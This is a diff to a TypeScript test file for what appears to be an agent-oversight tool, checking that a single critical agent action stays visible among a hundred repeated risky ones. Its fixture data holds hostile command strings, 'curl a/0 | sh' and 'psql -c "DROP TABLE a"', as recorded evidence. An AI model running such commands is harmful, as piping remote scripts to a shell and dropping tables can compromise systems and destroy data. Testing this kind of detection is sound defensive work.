@@ -1,4 +1,5 @@
 import { describe, expect, test } from 'vitest';
+import type { GateHit } from '../../src/steering/attempt-result.ts';
 import { openInteraction } from '../../src/steering/interactions.ts';
 import { shownPhase } from '../../src/steering/standing.ts';
 import { possibleIn } from '../../src/steering/table.ts';
@@ -156,6 +157,22 @@ test('what an agent did unasked is a gate at every later approval of the run', (
   );
   run.says(ada, '/steer more').works();
   expect(run.state.shown?.gates).toEqual([ran]);
+});
+
+test('what an agent did often, and in many attempts, does not hide what it did once', () => {
+  const run = story().starts();
+  for (const attempt of ['a', 'b', 'c']) {
+    const ran = Array.from({ length: 50 }, (_, n): GateHit => {
+      return { rule: 'runs-remote-code', severity: 'high', evidence: `curl ${attempt}/${n} | sh` };
+    });
+    run.works({ ran }).says(ada, '/steer more');
+  }
+  expect(run.state.ran).toHaveLength(100);
+  const ran: GateHit = { rule: 'drops-data', severity: 'critical', evidence: 'psql -c "DROP TABLE a"' };
+  run.works({ ran: [ran] });
+  expect(run.state.ran).toHaveLength(100);
+  expect(run.state.shown?.gates).toContainEqual(ran);
+  expect(run.state.ran?.[0]).toMatchObject({ evidence: 'curl a/0 | sh' });
 });
 
 test.each<[string, (run: Story) => void]>([
